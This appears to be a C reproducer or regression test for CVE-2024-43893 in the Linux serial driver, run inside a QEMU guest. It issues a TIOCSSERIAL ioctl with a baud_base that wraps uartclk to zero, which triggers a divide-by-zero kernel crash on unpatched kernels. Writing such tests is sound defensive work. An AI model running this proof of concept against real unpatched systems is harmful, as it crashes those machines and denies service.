// CVE-2024-43893 (mainline 6eabce6608d6, 6.1.105 e13ba3fe5ee0): TIOCSSERIAL with a baud_base whose uartclk
// (baud_base * 16, an unsigned int) wraps to 0 passes the "baud_base >= 9600" check and sets uartclk to 0; a custom divisor change then recomputes the line settings, and with no valid baud range the
// 8250 driver divides by zero. Without the fix uart_get_baud_rate() first warns ("should never happen"), then
// uart_get_divisor() divides by zero. The fixed kernel refuses a zero uartclk with EINVAL. Written for kdk from
// the fix's description; ttyS0 is the only UART the guest has (QEMU -nodefaults), and also its console.
#include <errno.h>
#include <fcntl.h>
#include <linux/serial.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void) {
  int fd = open("/dev/ttyS0", O_RDWR | O_NOCTTY | O_NONBLOCK);
  if (fd < 0) {
    perror("open /dev/ttyS0");
    return 2;
  }
  struct serial_struct ss;
  if (ioctl(fd, TIOCGSERIAL, &ss) < 0) {
    perror("TIOCGSERIAL");
    return 2;
  }
  ss.baud_base = 0x10000000; /* * 16 = 2^32: uartclk 0 */
  ss.custom_divisor = ss.custom_divisor + 1; /* a change, so the line settings are recomputed */
  int r = ioctl(fd, TIOCSSERIAL, &ss);
  printf("TIOCSSERIAL uartclk 0: %d (%s)\n", r, r < 0 ? strerror(errno) : "ok");
  return 0;
}
